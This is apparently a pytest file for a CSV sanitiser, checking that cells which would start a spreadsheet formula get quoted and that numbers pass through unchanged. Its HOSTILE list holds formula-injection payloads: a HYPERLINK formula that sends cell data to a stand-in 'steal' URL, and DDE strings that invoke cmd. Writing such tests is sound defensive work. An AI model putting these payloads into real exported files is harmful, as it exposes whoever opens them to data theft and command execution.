import csv
import io
from decimal import Decimal

import pytest

from healthjustice.core.csv_cells import SafeDictWriter, SafeWriter, safe_cell

HOSTILE = [
    '=HYPERLINK("https://example.invalid/steal?d="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_would_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Stoke custody L&D", "", "a=b", "1-2", " =x", "'=already"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-10.25"), 0, 7, None, True])
def test_numbers_are_written_as_numbers(value):
    assert safe_cell(value) is value


def test_a_negative_number_given_as_text_is_quoted():
    assert safe_cell("-5") == "'-5"


def test_writers_quote_every_hostile_cell_and_leave_numbers_alone():
    out = io.StringIO()
    SafeWriter(out).writerows([[v, -1] for v in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in rows] == ["'" + v for v in HOSTILE]
    assert {r[1] for r in rows} == {"-1"}

    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name", "count"])
    writer.writeheader()
    writer.writerow({"name": "=1+1", "count": Decimal("-3")})
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"name": "'=1+1", "count": "-3"}]
